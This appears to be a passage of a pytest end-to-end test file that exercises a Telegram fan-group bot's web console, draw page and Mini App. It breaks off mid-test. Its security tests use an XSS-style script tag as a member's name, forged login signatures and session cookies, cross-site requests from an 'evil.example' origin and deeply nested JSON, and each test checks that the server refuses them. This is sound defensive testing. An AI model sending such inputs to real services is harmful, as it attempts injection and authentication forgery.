"""The web console, the public draw page and the Mini App, in a real headless Chromium
against `fanbot run` (WEB_URL set) and the sandbox: what an operator and a member do, and
what a stranger, a forger or a cross-group admin is refused."""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import json
import re
import time
from collections.abc import AsyncIterator, Iterator
from datetime import datetime, timedelta
from typing import Any
from urllib.parse import urlencode
from zoneinfo import ZoneInfo

import aiohttp
import pytest
from playwright.async_api import Browser, Page, expect

from sandbox.client import Group, SandboxClient, User
from sandbox.server import DEFAULT_TOKEN
from tests.conftest import create_database
from tests.e2e.conftest import client_of
from tests.e2e.test_draws import draw_id, open_draw, press, result_of
from tests.support.browser import SCREENSHOTS, chromium, offline_context
from tests.support.processes import BotProcess, SandboxProcess, free_port
from tests.support.untranslated import untranslated
from web.auth import sign_init_data, sign_login_widget


@pytest.fixture(scope="module")
def web_bot(db_template: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[BotProcess]:
    """One sandbox and one bot serving the web on a port of its own (polling mode)."""
    sandbox = SandboxProcess()
    url, drop = asyncio.run(create_database(db_template, tmp_path_factory.mktemp("web")))
    port = free_port()
    bot = BotProcess(
        sandbox.url, url, WEB_URL=f"http://127.0.0.1:{port}", WEB_PORT=str(port),
        WEBHOOK_HOST="127.0.0.1",
    )  # fmt: skip
    bot.web_url = f"http://127.0.0.1:{port}"  # type: ignore[attr-defined]
    bot.start()
    try:
        asyncio.run(bot.wait_ready())
        asyncio.run(bot.wait_for_log("web console on"))
        yield bot
    finally:
        code = bot.stop()
        sandbox.stop()
        asyncio.run(drop())  # type: ignore[arg-type]
    assert code == 0, bot.logs()
    assert "Traceback" not in bot.logs(), bot.logs()
    assert DEFAULT_TOKEN not in bot.logs()


@pytest.fixture
def web(web_bot: BotProcess) -> str:
    return str(web_bot.web_url)  # type: ignore[attr-defined]


@pytest.fixture
async def sandbox(web_bot: BotProcess) -> AsyncIterator[SandboxClient]:
    async with client_of(web_bot) as client:
        yield client


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    async with chromium() as launched:
        yield launched


async def shop_group(sandbox: SandboxClient) -> tuple[Group, User, list[User]]:
    """A group in English with an admin and three members who wrote, one named like a script."""
    admin = await sandbox.create_user("Ada", "ada_admin", "en")
    fans = [
        await sandbox.create_user("Cleo", "cleo_fan", "en"),
        await sandbox.create_user("<script>alert(1)</script>", None, "en"),
        await sandbox.create_user("李雷", "lilei", "zh"),
    ]
    group = await sandbox.create_group("Tea Lovers", creator=admin, members=fans)
    await sandbox.ask(group, admin, "/settings language en")
    for fan in fans:
        await sandbox.send(group, fan, "签到")
    await sandbox.settle()
    return group, admin, fans


async def console_link(sandbox: SandboxClient, user: User) -> str:
    await sandbox.send_private(user, "/console")
    (sent,) = await sandbox.wait_for(lambda e: e["kind"] == "sent" and e["chat_id"] == user.id)
    assert "works once, for 10 minutes" in sent["text"], sent["text"]
    return str(sent["reply_markup"]["inline_keyboard"][0][0]["url"])


_addresses = itertools.count(1)


def console_http() -> aiohttp.ClientSession:
    """A client of the console from an address of its own (the proxy's X-Real-IP, believed
    from 127.0.0.1), so that one test's logins do not spend the browser tests' budget of 10
    a minute; it keeps cookies of an IP address (127.0.0.1), as a browser does."""
    return aiohttp.ClientSession(
        cookie_jar=aiohttp.CookieJar(unsafe=True),
        headers={"X-Real-IP": f"203.0.113.{next(_addresses)}"},
    )


async def log_in(page: Page, link: str) -> None:
    await page.goto(link + "?lang=en")
    await page.click("#use-link")
    await page.wait_for_url(re.compile(r"/console$"))


async def test_an_admin_logs_in_by_link_reads_the_overview_and_finds_a_member(
    sandbox: SandboxClient, browser: Browser, web: str
) -> None:
    group, admin, (cleo, scripted, _lilei) = await shop_group(sandbox)
    link = await console_link(sandbox, admin)
    assert link.startswith(f"{web}/console/link/")
    async with offline_context(browser) as context:
        page = await context.new_page()
        await log_in(page, link)
        await page.click(f"text={group.title}")
        await expect(page.locator("h1")).to_have_text(group.title)
        figures = page.locator("#figures")
        await expect(figures.locator(".figure", has_text="Sign-ins")).to_contain_text("3")
        bars = page.locator("#chart-checkins rect.hover title")
        assert await bars.count() == 7  # a week, as /stats; a bar a day, its <title> the value
        assert (await bars.last.text_content() or "").endswith(" · 3")
        await page.click("text=30 days")
        assert await page.locator("#chart-checkins rect.hover").count() == 30
        await page.click("text=7 days")

        await page.click("nav >> text=Members")
        rows = page.locator("#members tbody tr")
        await expect(rows).to_have_count(4)  # the three members and the admin
        # A member named <script> is shown as text, and nothing ran.
        await expect(page.locator("#members", has_text="<script>alert(1)</script>")).to_be_visible()
        await page.fill("input[name=q]", "cleo")
        await page.click("#member-search button")
        await expect(rows).to_have_count(1)
        await expect(rows.first).to_contain_text("Cleo")
        await page.fill("input[name=q]", str(scripted.id))
        await page.click("#member-search button")
        await expect(rows).to_have_count(1)
        await page.fill("input[name=q]", "")
        await page.select_option("select[name=sort]", "seen")
        await page.click("#member-search button")
        await expect(rows).to_have_count(4)
        # The language switch keeps the page's filters.
        chinese = await page.locator(".languages a", has_text="中文").get_attribute("href")
        assert chinese is not None
        assert "sort=seen" in chinese
        assert "lang=zh" in chinese
        await page.screenshot(path=str(SCREENSHOTS / "console-members.png"), full_page=True)
        await page.click(f"#members >> text={cleo.first_name}")
        await expect(page.locator("#ledger")).to_contain_text("sign-in")

        # The link was for one use: a second browser is refused.
        other = await context.browser.new_context()  # type: ignore[union-attr]
        second = await other.new_page()
        await second.goto(link)
        await second.click("#use-link")
        await expect(second.locator("p.problem")).to_contain_text("used already")
        await other.close()

        # CSV downloads, with the session only.
        async with page.expect_download() as download:
            await page.goto(f"{web}/console/{group.id}")
            await page.click("#downloads a[data-kind=members]")  # named: Members, 成员名单
        saved = await (await download.value).path()
        assert saved is not None
        content = saved.read_text(encoding="utf-8-sig")
        assert content.startswith("user_id,username,name")
        assert str(cleo.id) in content


async def zh_group(sandbox: SandboxClient, web: str) -> tuple[Group, User, list[User]]:
    """A zh group in Asia/Shanghai whose members signed in, earned a tier, redeemed, entered an
    ended draw and bought, with a daily post and an open topic: every kind of row the console
    names."""
    admin = await sandbox.create_user("王店长", "wang_admin", "zh")
    fans = [await sandbox.create_user("小美", "xiaomei", "zh"),
            await sandbox.create_user("阿强", "aqiang", "zh")]  # fmt: skip
    group = await sandbox.create_group("茶友会", creator=admin, members=fans)
    await sandbox.ask(group, admin, "/settings language zh")
    await sandbox.ask(group, admin, "/settings timezone Asia/Shanghai")
    for fan in fans:
        await sandbox.send(group, fan, "签到")
    await sandbox.settle()  # known by @username once their sign-ins are handled (not beside)
    granted = await sandbox.ask(group, admin, "/points @xiaomei +150 欢迎礼")  # 155: 铜牌
    assert "+150" in granted["text"], granted["text"]
    await sandbox.ask(group, admin, "/reward add 茶样 price=30 kind=perk")
    await sandbox.ask(group, admin, "/order @xiaomei 1876.00 T-1876")
    await sandbox.ask(group, admin, "/post daily 09:00 早安，茶友们")
    await sandbox.ask(group, admin, "/topic new 晒出你的茶杯 hours=2")
    await sandbox.ask(group, admin, "/invitelink new 小红书")
    await sandbox.ask(group, admin, "/staff add @aqiang read")
    await sandbox.send(group, admin, "/draw 茶具 winners=1 ends=2h")
    (post,) = await sandbox.wait_for(
        lambda e: e["kind"] == "sent" and e["chat_id"] == group.id and "幸运抽奖" in e["text"]
    )
    draw = int(re.search(r"#(\d+)", post["text"])[1])  # type: ignore[index]
    await press(sandbox, group, post, fans[0])
    await sandbox.send(group, admin, f"/draw end {draw}")
    await sandbox.wait_for(
        lambda e: e["kind"] == "sent" and e["chat_id"] == group.id and "已开奖" in e["text"]
    )
    async with aiohttp.ClientSession() as http:
        headers = {"Authorization": f"tma {init_data(fans[0], language='zh')}"}
        me = await (await http.post(f"{web}/app/api/me", json={}, headers=headers)).json()
        (tea,) = [reward for reward in me["rewards"] if reward["name"] == "茶样"]
        body = {"group": group.id, "reward": tea["id"], "key": "zh-console-0001"}
        redeemed = await http.post(f"{web}/app/api/redeem", json=body, headers=headers)
        result = await redeemed.json()
        assert result["ok"], result
    await sandbox.settle()
    return group, admin, fans


def shanghai_now() -> set[str]:
    """The minute in Shanghai now and the minute before: what a page says of "just now"."""
    now = datetime.now(ZoneInfo("Asia/Shanghai"))
    return {f"{moment:%Y-%m-%d %H:%M}" for moment in (now, now - timedelta(minutes=1))}


async def test_a_zh_groups_console_speaks_chinese_in_its_own_time_and_money(
    sandbox: SandboxClient, browser: Browser, web: str
) -> None:
    group, admin, (xiaomei, _aqiang) = await zh_group(sandbox, web)
    just_now = shanghai_now()
    pages = ("", "/orders", "/members", f"/members/{xiaomei.id}", "/draws", "/posts", "/topics",
             "/shop", "/settings", "/channels", "/staff", "/log", "/vip")  # fmt: skip
    async with offline_context(browser, locale="zh-CN") as context:  # the browser's language
        page = await context.new_page()
        # By the Login Widget: the admin's commands above used up /console's throttle.
        fields = {"id": str(admin.id), "first_name": admin.first_name,
                  "auth_date": str(int(time.time()))}  # fmt: skip
        await page.goto(f"{web}/console/login/telegram?"
                        + urlencode(sign_login_widget(fields, DEFAULT_TOKEN)))  # fmt: skip
        await page.wait_for_url(re.compile(r"/console$"))
        assert untranslated(await page.inner_text("body")) == []  # the groups one administers
        texts = {}
        for path in pages:
            await page.goto(f"{web}/console/{group.id}{path}")
            texts[path] = await page.inner_text("body")
            assert "时间为 Asia/Shanghai（UTC+8）" in texts[path], path
        left = {path: untranslated(text) for path, text in texts.items()}
        assert left == {path: [] for path in pages}

        overview = texts[""]
        assert "¥1,876.00" in overview  # GMV, as the bot writes money
        assert "1876.00" not in overview.replace("¥1,876.00", "")
        dates = page.locator("#chart-checkins text.x")
        await page.goto(f"{web}/console/{group.id}")
        today = datetime.now(ZoneInfo("Asia/Shanghai")).date()
        assert await dates.last.text_content() == f"{today:%m-%d}"  # the latest day is dated
        assert await page.locator("#chart-checkins rect.hover").count() == 7  # as /stats
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        await page.screenshot(path=str(SCREENSHOTS / "console-overview.png"), full_page=True)

        members = texts["/members"]
        assert "铜牌" in members  # xiaomei's tier, by its name
        assert any(minute in members for minute in just_now), members
        member = texts[f"/members/{xiaomei.id}"]
        assert any(f"最近活跃：{minute}" in member for minute in just_now), member
        assert "兑换 · 茶样" in member  # the ledger row of the redemption
        assert "管理员调整 · 欢迎礼" in member
        assert "已结束" in member  # the draw she entered
        assert "已发放" in member  # her reward
        await page.goto(f"{web}/console/{group.id}/members/{xiaomei.id}")
        await page.screenshot(path=str(SCREENSHOTS / "console-member.png"), full_page=True)
        settings = texts["/settings"]
        assert "留空则不发" in settings
        assert "小红书" in texts["/channels"]
        assert "阿强" in texts["/staff"]
        assert "还没有通过网页后台做过修改" in texts["/log"]  # it logs the console's changes
        await page.goto(f"{web}/console/{group.id}/channels")
        await page.screenshot(path=str(SCREENSHOTS / "console-channels.png"), full_page=True)

        # The draw's public page names the group and the end, in the group's time.
        await page.goto(f"{web}/console/{group.id}/draws")
        await page.click("#draws >> text=公开页面")
        await expect(page.locator("#group")).to_have_text("茶友会 的抽奖")
        ended = await page.locator("#ends").inner_text()
        assert ended in just_now, ended
        assert untranslated(await page.inner_text("body")) == []


async def test_the_web_address_says_what_fanbot_is_and_leads_to_the_console(
    sandbox: SandboxClient, browser: Browser, web: str
) -> None:
    group, _admin, _fans = await shop_group(sandbox)
    for locale, said, button in (
        ("zh-CN", "粉丝群", "进入后台"),
        ("en-US", "fan group", "Open the console"),
    ):
        async with offline_context(browser, locale=locale) as context:
            page = await context.new_page()
            answer = await page.goto(f"{web}/")
            assert answer is not None
            assert answer.status == 200
            await expect(page.locator("main")).to_contain_text(said)
            text = await page.inner_text("body")
            assert group.title not in text  # nothing of any group
            if locale == "zh-CN":
                assert untranslated(text) == []
            await page.click(f"text={button}")
            await page.wait_for_url(re.compile(r"/console$"))
            await expect(page.locator("h1")).to_have_text(
                "fanbot 后台" if locale == "zh-CN" else "The fanbot console"
            )
            if locale == "zh-CN":  # the login page
                assert untranslated(await page.inner_text("body")) == []


async def test_a_setting_changed_in_the_console_is_what_settings_says(
    sandbox: SandboxClient, browser: Browser, web: str
) -> None:
    group, admin, _fans = await shop_group(sandbox)
    link = await console_link(sandbox, admin)
    async with offline_context(browser) as context:
        page = await context.new_page()
        await log_in(page, link)
        await page.goto(f"{web}/console/{group.id}/settings")
        # A bad value: the reason by its field, and nothing saved, the good field neither.
        await page.fill("input[name='points.message']", "3")
        await page.fill("input[name=timezone]", "Mars/Olympus")
        await page.click("#settings button[type=submit]")
        await expect(page.locator("p.problem[role=alert]")).to_be_visible()
        await expect(page.locator("label", has_text="Time zone")).to_contain_text(
            "Unknown time zone"
        )
        before = await sandbox.ask(group, admin, "/settings")
        assert "Message points: 1 per message" in before["text"]

        await page.fill("input[name=timezone]", "Europe/London")
        await page.fill("input[name='points.message']", "3")
        await page.fill("input[name='cadence.digest']", "off")
        await page.fill("input[name='reactions.points']", "2")
        await page.click("#settings button[type=submit]")
        await expect(page.locator("p.saved")).to_be_visible()
        await page.screenshot(path=str(SCREENSHOTS / "console-settings.png"), full_page=True)
    after = await sandbox.ask(group, admin, "/settings")
    assert "Message points: 3 per message" in after["text"]
    assert "Time zone: Europe/London" in after["text"]
    assert "digest off" in after["text"]
    assert (
        "Reactions: 2 points to the author for each member's reaction, up to 10 reactions a day"
        in (after["text"])
    )


async def test_strangers_forgers_and_other_groups_admins_see_nothing(
    sandbox: SandboxClient, browser: Browser, web: str
) -> None:
    group, admin, (cleo, *_rest) = await shop_group(sandbox)
    other, other_admin, _fans = await shop_group(sandbox)
    async with console_http() as http:
        # No session: the login page, and no group page.
        async with http.get(f"{web}/console/{group.id}", allow_redirects=False) as answer:
            assert answer.status == 303
        async with http.get(f"{web}/console?lang=en") as answer:
            html = await answer.text()
            assert "Log in with Telegram" in html
            assert DEFAULT_TOKEN not in html
            assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"]
        # A forged Login Widget redirect, a stale one, and a good one.
        fields = {"id": str(admin.id), "first_name": "Ada", "auth_date": str(int(time.time()))}
        forged = {**sign_login_widget(fields, DEFAULT_TOKEN), "id": str(other_admin.id)}
        async with http.get(f"{web}/console/login/telegram", params=forged) as answer:
            assert answer.status == 403
        stale = sign_login_widget({**fields, "auth_date": str(int(time.time()) - 90_000)},
                                  DEFAULT_TOKEN)  # fmt: skip
        async with http.get(f"{web}/console/login/telegram", params=stale) as answer:
            assert answer.status == 403
        good = sign_login_widget(fields, DEFAULT_TOKEN)
        async with http.get(f"{web}/console/login/telegram", params=good) as answer:
            assert answer.status == 200  # followed to the groups page
            html = await answer.text()
            assert group.title in html
        # The admin of one group changes the address to the other: the same 404 as none.
        async with http.get(f"{web}/console/{other.id}/members") as answer:
            assert answer.status == 404
        async with http.get(f"{web}/console/-100999999999") as answer:
            assert answer.status == 404
        # A form without its CSRF token, or from another site, changes nothing.
        async with http.post(f"{web}/console/{group.id}/settings",
                             data={"points.message": "9"}) as answer:  # fmt: skip
            assert answer.status == 403
        async with http.get(f"{web}/console/{group.id}/settings") as answer:
            token = re.search(r'name="csrf" value="([^"]+)"', await answer.text())
            assert token is not None
        async with http.post(
            f"{web}/console/{group.id}/settings", data={"points.message": "9", "csrf": token[1]},
            headers={"Origin": "https://evil.example"},
        ) as answer:  # fmt: skip
            assert answer.status == 403
        # A forged session cookie is no session.
        http.cookie_jar.clear()
        cookie = {"fanbot_session": "eyJ4Ijoi.forged"}
        async with http.get(f"{web}/console/{group.id}", cookies=cookie,
                            allow_redirects=False) as answer:  # fmt: skip
            assert answer.status == 303
    settings = await sandbox.ask(group, admin, "/settings")
    assert "Message points: 1 per message" in settings["text"]
    # A member who administers nothing logs in and sees no group; the group's page is 404.
    link = await console_link(sandbox, cleo)
    async with offline_context(browser) as context:
        page = await context.new_page()
        await log_in(page, link)
        await expect(page.locator("main")).to_contain_text("not an admin of any group")
        response = await page.goto(f"{web}/console/{group.id}")
        assert response is not None
        assert response.status == 404
    # /console in the group itself sends no link there.
    reply = await sandbox.ask(group, admin, "/console")
    assert "/console/link/" not in json.dumps(reply)


async def test_hostile_credentials_and_bodies_are_refused_never_a_500(
    sandbox: SandboxClient, web: str
) -> None:
    group, admin, (cleo, *_rest) = await shop_group(sandbox)
    await sandbox.ask(group, admin, "/reward add Tea sample price=30 kind=perk")
    async with console_http() as http:
        # Credentials that are not ASCII: no session, no login, no member.
        async with http.get(f"{web}/console/{group.id}", allow_redirects=False,
                            headers={"Cookie": "fanbot_session=é.é"}) as answer:  # fmt: skip
            assert answer.status == 303
        for method in (http.get, http.post):
            async with method(f"{web}/console/link/%C3%A9.%C3%A9") as answer:
                assert answer.status == 403
        fields = {"id": str(admin.id), "first_name": "Ada", "auth_date": str(int(time.time()))}
        async with http.get(f"{web}/console/login/telegram?" + "&".join(
                f"{k}={v}" for k, v in fields.items()) + "&hash=%C3%A9") as answer:  # fmt: skip
            assert answer.status == 403
        signed = init_data(cleo)
        forged = {"Authorization": "tma " + signed.rsplit("hash=", 1)[0] + "hash=%C3%A9"}
        async with http.post(f"{web}/app/api/me", json={}, headers=forged) as answer:
            assert answer.status == 401
        # A member's own initData with bodies that are not what the API reads.
        headers = {"Authorization": f"tma {signed}"}
        me = await (await http.post(f"{web}/app/api/me", json={}, headers=headers)).json()
        reward = me["rewards"][0]["id"]
        for body in ({"group": group.id, "reward": True}, {"group": group.id, "reward": 1.0},
                     {"group": group.id, "reward": str(reward)}, {"group": True, "reward": reward},
                     {"group": 10**30, "reward": reward}):  # fmt: skip
            async with http.post(f"{web}/app/api/redeem", json=body, headers=headers) as answer:
                assert answer.status == 400, body
        nested = b"[" * 2000 + b"]" * 2000  # within 4 KB, past the parser's depth
        async with http.post(f"{web}/app/api/me", data=nested, headers=headers) as answer:
            assert (answer.status, (await answer.json())["error"]) == (400, "bad JSON")
        after = await (await http.post(f"{web}/app/api/me", json={}, headers=headers)).json()
        assert after["header"]["balance"] == me["header"]["balance"]  # nothing was redeemed
        # Login CSRF: another site's page posting one's own link is refused; ours logs in.
        link = await console_link(sandbox, admin)
        async with http.post(link, headers={"Origin": "https://evil.example"}) as answer:
            assert answer.status == 403
        assert not [c for c in http.cookie_jar if c.key == "fanbot_session"]
        async with http.post(link, headers={"Origin": web}) as answer:
            assert answer.status == 200  # followed to the groups page
            assert group.title in await answer.text()


async def test_a_draw_page_verifies_its_winners_in_the_browser(
    sandbox: SandboxClient, browser: Browser, web: str
) -> None:
    group, admin, fans = await shop_group(sandbox)
    post = await open_draw(sandbox, group, admin, "Tea set winners=2 ends=2h")
    for fan in fans:
        assert (await press(sandbox, group, post, fan)).startswith("✅ You're in draw")
    await sandbox.send(group, admin, f"/draw end {draw_id(post)}")
    result = await result_of(sandbox, group)
    page_url = f"{web}/d/{group.id}/{draw_id(post)}"
    assert f'<a href="{page_url}">Check them in your browser</a>' in result["html"]
    async with offline_context(browser) as context:
        page = await context.new_page()
        await page.goto(page_url + "?lang=en")
        await expect(page.locator("#winners li")).to_have_count(2)
        await page.click("#verify")
        await expect(page.locator("#verdict")).to_contain_text("✅ Verified in your browser")
        await page.screenshot(path=str(SCREENSHOTS / "draw-page.png"), full_page=True)

        # The same page with a doctored entrant list: the browser says so.
        async def doctored(route: Any) -> None:
            await route.fulfill(status=200, body="1\n2\n3\n", content_type="text/plain")

        await page.route("**/entrants.txt", doctored)
        await page.reload()
        await page.click("#verify")
        await expect(page.locator("#verdict")).to_contain_text("does not check out")
    async with aiohttp.ClientSession() as http:
        async with http.get(page_url) as answer:
            text = await answer.text()
            assert "Tea set" in text
        async with http.get(f"{web}/d/{group.id + 1}/{draw_id(post)}") as answer:
            assert answer.status == 404  # a draw is found only under its own group
        open_post = await open_draw(sandbox, group, admin, "Cup winners=1 ends=2h")
        async with http.get(f"{web}/d/{group.id}/{draw_id(open_post)}") as answer:
            text = await answer.text()
            assert answer.status == 200
            assert 'id="seed"' not in text  # the seed stays secret until the draw ends
        async with http.get(f"{web}/d/{group.id}/{draw_id(open_post)}/entrants.txt") as answer:
            assert answer.status == 404


def init_data(user: User, *, age: float = 0, language: str = "en") -> str:
    fields = {
        "auth_date": str(int(time.time() - age)),
        "query_id": "AAH-test",
        "user": json.dumps({"id": user.id, "first_name": user.first_name,
                            "language_code": language}, separators=(",", ":")),
    }  # fmt: skip
    return sign_init_data(fields, DEFAULT_TOKEN)


async def test_https_web_url_sets_the_menu_button_and_me_opens_the_mini_app(
    launch: Any,
) -> None:
    """Telegram takes Mini App buttons only with https addresses: with one, the private
    chat's menu button and /me in private open the card (the sandbox checks the https)."""
    sandbox, _bot = await launch(WEB_URL="https://fans.example.com", WEB_PORT=str(free_port()),
                                 WEBHOOK_HOST="127.0.0.1")  # fmt: skip
    state = await sandbox.bot_state()
    menu = state["menu_buttons"]
    assert menu["None"]["type"] == "web_app"  # no chat_id: every private chat's default
    assert menu["None"]["web_app"]["url"] == "https://fans.example.com/app"
    member = await sandbox.create_user("Cleo", "cleo_fan", "en")
    await sandbox.send_private(member, "/me")
    (sent,) = await sandbox.wait_for(lambda e: e["kind"] == "sent" and e["chat_id"] == member.id)
    (button,) = sent["reply_markup"]["inline_keyboard"][0]
    assert button["web_app"]["url"] == "https://fans.example.com/app"


async def test_an_admin_runs_the_shop_from_the_console(
    sandbox: SandboxClient, browser: Browser, web: str
) -> None:
    group, admin, (cleo, *_rest) = await shop_group(sandbox)
    await sandbox.send_private(cleo, "/start")  # so the bot may tell her privately
    await sandbox.wait_for(lambda e: e["kind"] == "sent" and e["chat_id"] == cleo.id)
    link = await console_link(sandbox, admin)
    async with offline_context(browser) as context:
        page = await context.new_page()
        await log_in(page, link)
        await page.goto(f"{web}/console/{group.id}/shop")
        new = page.locator("#new-reward")
        # A bad price: the reason, nothing added, and the form keeps what was typed.
        await new.locator("input[name=name]").fill("Tea <sample>")
        await new.locator("input[name=price]").fill("lots")
        await new.locator("select[name=kind]").select_option("gift")
        await new.locator("button[type=submit]").click()
        await expect(page.locator("#problem")).to_contain_text("The price is a whole number")
        await expect(new.locator("input[name=name]")).to_have_value("Tea <sample>")
        assert "No rewards yet" in (await sandbox.ask(group, admin, "/rewards"))["text"]
        await new.locator("input[name=price]").fill("30")
        await new.locator("button[type=submit]").click()
        await expect(page.locator("#said")).to_contain_text("added")
        await new.locator("input[name=name]").fill("Ten off")
        await new.locator("input[name=price]").fill("50")
        await new.locator("select[name=kind]").select_option("coupon")
        await new.locator("input[name=stock]").fill("10")
        await new.locator("button[type=submit]").click()
        coupon = page.locator("#rewards tr", has_text="Ten off")
        await expect(coupon).to_contain_text("10")

        # Codes: generated, then from a file whose repeated line is skipped with its number.
        await coupon.locator("summary", has_text="Codes").click()
        await coupon.locator("input[name=count]").fill("5")
        await coupon.locator("input[name=prefix]").fill("TEA")
        await coupon.locator("form.generate button").click()
        await expect(page.locator("#said")).to_contain_text("5 codes added")
        await coupon.locator("summary", has_text="Codes").click()
        codes = {"name": "codes.csv", "mimeType": "text/csv",
                 "buffer": "券码\nA-1\nA-2\nA-1\n".encode("gbk")}  # fmt: skip
        await coupon.locator("input[type=file]").set_input_files(codes)  # type: ignore[arg-type]
        await coupon.locator("form.codes button").click()
        await expect(page.locator("#said")).to_contain_text("2 codes added")
        await expect(page.locator("#said")).to_contain_text("line 4: twice in the file")
        await expect(coupon.locator("td").nth(4)).to_have_text("7")

        # Change the price and pause it: /rewards says the same.
        await coupon.locator("summary", has_text="Change").click()
        await coupon.locator("form.edit input[name=price]").fill("40")
        await coupon.locator("form.edit button").click()
        await expect(page.locator("#said")).to_contain_text("changed")
        await coupon.locator("button.pause").click()
        await expect(page.locator("#said")).to_contain_text("is paused")
        rewards = (await sandbox.ask(group, admin, "/rewards"))["text"]
        assert "Ten off (paused) · 40 pts" in rewards, rewards
        assert "Tea &lt;sample&gt;" in rewards or "Tea <sample>" in rewards

        # A member redeems the gift; the console lists it to send, and Mark sent tells her.
        await sandbox.ask(group, admin, "/points @cleo_fan +100 welcome")
        async with aiohttp.ClientSession() as http:
            headers = {"Authorization": f"tma {init_data(cleo)}"}
            me = await (await http.post(f"{web}/app/api/me", json={}, headers=headers)).json()
            (gift,) = [reward for reward in me["rewards"] if reward["name"] == "Tea <sample>"]
            body = {"group": group.id, "reward": gift["id"], "key": "console-gift-0001"}
            answer = await http.post(f"{web}/app/api/redeem", json=body, headers=headers)
            assert (await answer.json())["ok"]
        await page.reload()
        waiting = page.locator("#gifts tbody tr", has_text="Tea <sample>")
        await expect(waiting).to_contain_text("Cleo")
        await expect(page.locator("#redemptions")).to_contain_text("Tea <sample>")
        await page.screenshot(path=str(SCREENSHOTS / "console-shop.png"), full_page=True)
        await waiting.locator("button.sent").click()
        await expect(page.locator("#said")).to_contain_text("marked sent")
        await expect(page.locator("#gifts")).to_contain_text("No gifts waiting")
    (told,) = await sandbox.wait_for(
        lambda e: e["kind"] == "sent" and e["chat_id"] == cleo.id and "on its way" in e["text"]
    )
    assert "Tea Lovers" in told["text"]
    assert "No gifts waiting" in (await sandbox.ask(group, admin, "/gifts"))["text"]


async def test_draws_posts_and_topics_are_run_from_the_console(
    sandbox: SandboxClient, browser: Browser, web: str
) -> None:
    group, admin, fans = await shop_group(sandbox)
    await sandbox.ask(group, admin, "/points @cleo_fan +50 welcome")
    ending = await open_draw(sandbox, group, admin, "Tea set winners=1 ends=2h")
    costly = await open_draw(sandbox, group, admin, "Cup winners=1 ends=2h cost=5")
    for fan in fans:
        await press(sandbox, group, ending, fan)
    assert (await press(sandbox, group, costly, fans[0])).startswith("✅ You're in draw")
    link = await console_link(sandbox, admin)
    async with offline_context(browser) as context:
        page = await context.new_page()
        await log_in(page, link)
        await page.goto(f"{web}/console/{group.id}/draws")
        row = page.locator(f"#draw-{draw_id(ending)}")
        await expect(row).to_contain_text("open")
        await expect(row.locator("td").nth(3)).to_have_text("3")
        await row.locator("button.end").click()
        await expect(page.locator("#said")).to_contain_text("ended")
        await expect(row).to_contain_text("ended")
        result = await result_of(sandbox, group)
        assert "Tea set" in result["text"]
        cup = page.locator(f"#draw-{draw_id(costly)}")
        await cup.locator("summary").click()
        await cup.locator("button.cancel").click()
        await expect(page.locator("#said")).to_contain_text("1 entry cost refunded")
        await expect(cup).to_contain_text("cancelled")
        await page.screenshot(path=str(SCREENSHOTS / "console-draws.png"), full_page=True)
    me = await sandbox.ask_for_sender(group, fans[0], "/me")
    assert "💰 Points: 55 (lifetime 55)" in me["text"], me["text"]  # 50 + 5 signing in: paid back

    # Posts in another group (a group hears 20 bot messages a minute at most).
    group, admin, _fans = await shop_group(sandbox)
    daily = await sandbox.ask(group, admin, "/post daily 09:00 Good morning, tea lovers")
    weekly = await sandbox.ask(group, admin, "/post weekly mon 20:00 Weekly tea news")
    daily_id = int(re.search(r"#(\d+)", daily["text"])[1])  # type: ignore[index]
    weekly_id = int(re.search(r"#(\d+)", weekly["text"])[1])  # type: ignore[index]
    await sandbox.ask(group, admin, "/topic new Show us your cup hours=2")
    async with offline_context(browser) as context:
        page = await context.new_page()
        await log_in(page, await console_link(sandbox, admin))
        await page.goto(f"{web}/console/{group.id}/posts")
        calendar = page.locator("#calendar")
        await expect(calendar.locator(f"a[href='#post-{daily_id}']")).to_have_count(14)
        assert await calendar.locator(f"a[href='#post-{weekly_id}']").count() in (2, 3)
        await expect(calendar.locator("li.daily", has_text="Morning post")).to_have_count(14)
        await page.screenshot(path=str(SCREENSHOTS / "console-posts.png"), full_page=True)
        await page.locator(f"#post-{daily_id} button.pause").click()
        await expect(page.locator("#said")).to_contain_text(f"Post #{daily_id} paused")
        await expect(calendar.locator(f"a[href='#post-{daily_id}']")).to_have_count(0)
        await expect(page.locator(f"#post-{daily_id}")).to_contain_text("paused")
        listed = (await sandbox.ask(group, admin, "/posts"))["text"]
        assert f"#{daily_id} · every day at 09:00 · paused" in listed, listed
        await page.locator(f"#post-{daily_id} button.resume").click()
        await expect(calendar.locator(f"a[href='#post-{daily_id}']")).to_have_count(14)

        await page.goto(f"{web}/console/{group.id}/topics")
        topic = page.locator("#open-topics tbody tr", has_text="Show us your cup")
        await expect(topic).to_be_visible()
        await topic.locator("button.close").click()
        await expect(page.locator("#said")).to_contain_text("closed")
        await expect(page.locator("#closed-topics")).to_contain_text("Show us your cup")
        await expect(page.locator("#open-topics")).to_contain_text("No topic is open")
    (summary,) = await sandbox.wait_for(
        lambda e: e["kind"] == "sent" and e["chat_id"] == group.id and "is closed" in e["text"]
    )
    assert "Show us your cup" in summary["text"]


async def test_every_console_form_wants_its_token_and_its_own_group(
    sandbox: SandboxClient, web: str
) -> None:
    group, admin, _fans = await shop_group(sandbox)
    other, _other_admin, _f = await shop_group(sandbox)
    await sandbox.ask(group, admin, "/reward add Pot price=10 kind=gift")
    await sandbox.ask(other, _other_admin, "/reward add Kettle price=10 kind=gift")
    draw = await open_draw(sandbox, other, _other_admin, "Kettle winners=1 ends=2h")
    actions = ["draws/{draw}/end", "draws/{draw}/cancel", "posts/1/pause", "topics/1/close",
               "shop/rewards", "shop/rewards/{reward}/pause", "shop/rewards/{reward}/del",
               "shop/rewards/{reward}/generate", "shop/gifts/1/sent"]  # fmt: skip
    async with console_http() as http:
        fields = {"id": str(admin.id), "first_name": "Ada", "auth_date": str(int(time.time()))}
        async with http.get(f"{web}/console/login/telegram",
                            params=sign_login_widget(fields, DEFAULT_TOKEN)) as answer:  # fmt: skip
            assert answer.status == 200
        async with http.get(f"{web}/console/{group.id}/shop") as answer:
            html = await answer.text()
            token = re.search(r'name="csrf" value="([^"]+)"', html)
            reward = re.search(r'id="reward-(\d+)"', html)
            assert token is not None
            assert reward is not None
        async with http.get(f"{web}/console/{other.id}/shop") as answer:
            assert answer.status == 404
        ids = {"draw": draw_id(draw), "reward": int(reward[1])}
        for action in actions:
